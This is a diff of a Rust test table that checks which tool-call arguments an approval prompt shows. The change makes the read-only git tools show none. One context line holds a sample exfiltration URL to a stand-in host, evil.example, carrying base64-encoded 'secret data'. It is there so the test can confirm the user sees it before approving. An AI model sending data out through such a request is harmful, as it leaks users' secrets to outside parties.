@@ -68,10 +68,10 @@ async fn approval_question_shows_the_arguments_of_the_call() {
             Some("https://evil.example/?d=c2VjcmV0IGRhdGE"),
         ),
         ("git_commit", json!({ "message": "x" }), Some("message: x")),
-        ("git_status", json!({ "repository": "r" }), Some("repository: r")),
-        ("git_diff", json!({ "from": "HEAD~1" }), Some("from: HEAD~1")),
-        ("git_log", json!({ "count": 2 }), Some("count: 2")),
-        ("git_branches", json!({ "repository": "r" }), Some("repository: r")),
+        ("git_status", json!({ "repository": "r" }), None),
+        ("git_diff", json!({ "from": "HEAD~1" }), None),
+        ("git_log", json!({ "count": 2 }), None),
+        ("git_branches", json!({ "repository": "r" }), None),
         ("run_tests", json!({ "framework": "cargo" }), Some("cargo")),
     ];
     for (name, arguments, expected) in table {
